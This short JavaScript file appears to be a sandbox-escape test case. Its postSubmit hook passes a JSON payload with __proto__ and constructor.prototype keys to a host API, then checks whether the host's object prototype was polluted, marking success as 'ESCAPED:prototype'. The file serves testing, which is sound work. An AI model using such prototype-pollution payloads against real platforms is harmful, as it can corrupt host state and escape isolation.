// Passes an argument with __proto__ as a key, for a host that merges what it is given.
// Class: platform-calls
// Win: the next page sees the polluted prototype.
// Control: plain
const { exports: lookups } = require('integrator-api');
function postSubmit(options) {
  if (options.settings.flow.attack) {
    lookups.run(JSON.parse('{"_id": "x", "__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}'));
  } else if ({}.polluted === 'yes') options.responseData[0].id = 'ESCAPED:prototype';
  return options.responseData;
}
